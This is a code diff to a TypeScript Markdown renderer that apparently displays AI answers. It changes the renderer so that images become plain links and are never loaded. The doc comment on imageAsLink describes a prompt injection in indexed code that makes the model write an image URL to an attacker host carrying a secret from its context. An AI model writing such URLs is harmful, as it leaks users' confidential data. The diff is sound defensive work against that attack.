@@ -13,18 +13,39 @@ function load(): Renderer {
   const MarkdownItClass = require('markdown-it') as typeof import('markdown-it');
   const sanitize = require('sanitize-html') as typeof import('sanitize-html');
   /* eslint-enable @typescript-eslint/no-require-imports */
+  const markdown = new MarkdownItClass({ html: false, linkify: true, breaks: false });
+  markdown.renderer.rules.image = imageAsLink;
   renderer = {
-    markdown: new MarkdownItClass({ html: false, linkify: true, breaks: false }),
+    markdown,
     sanitize,
     allowed: {
-      allowedTags: [...sanitize.defaults.allowedTags, 'img'],
-      allowedAttributes: { a: ['href', 'title'], img: ['src', 'alt', 'title'], code: ['class'], pre: ['class'], span: ['class'] },
+      // No img (nor any other tag that loads something): see imageAsLink.
+      allowedTags: sanitize.defaults.allowedTags,
+      allowedAttributes: { a: ['href', 'title', 'rel'], code: ['class'], pre: ['class'], span: ['class'] },
       allowedSchemes: ['http', 'https', 'mailto'],
       transformTags: { a: sanitize.simpleTransform('a', { rel: 'noopener noreferrer nofollow' }) },
     },
   };
   return renderer;
 }
+
+/**
+ * An image in an answer is a link to it, never loaded: a reader's client fetching an address the
+ * model wrote would send whatever the model put in it (a prompt injection planted in indexed code
+ * can make it write `![status](https://attacker/badge.png?d=<a secret from the context>)`). Its
+ * text is the image's description, or its address when it has none; inside a link, the text alone.
+ */
+const imageAsLink: Renderer['markdown']['renderer']['rules']['image'] = (tokens, index, options, env, self) => {
+  const token = tokens[index];
+  const escape = (text: string) => renderer!.markdown.utils.escapeHtml(text);
+  const source = String(token.attrGet('src') ?? '');
+  const text = escape(self.renderInlineAsText(token.children ?? [], options, env) || source);
+  let linkDepth = 0;
+  for (const before of tokens.slice(0, index)) linkDepth += before.type === 'link_open' ? 1 : before.type === 'link_close' ? -1 : 0;
+  if (linkDepth > 0 || !source) return text;
+  const title = String(token.attrGet('title') ?? '');
+  return `<a href="${escape(source)}"${title ? ` title="${escape(title)}"` : ''}>${text}</a>`;
+};
 
 /**
  * Answers rendered lately, by their Markdown, at most 4 million characters of Markdown and HTML
@@ -37,7 +58,7 @@ const rendered = new LruCache<string, string>(4_000_000, (text, html) => text.le
 const CACHED_TEXT_MAX_CHARS = 64_000;
 
 /** Bump it whenever this module's own rules change a text's HTML (markdown-it's options, the sanitizer's). */
-const RULES_VERSION = 1;
+const RULES_VERSION = 2;
 
 /* eslint-disable @typescript-eslint/no-require-imports -- two small package.json files, not the libraries (see load) */
 const packageVersion = (name: string) => (require(`${name}/package.json`) as { version: string }).version;
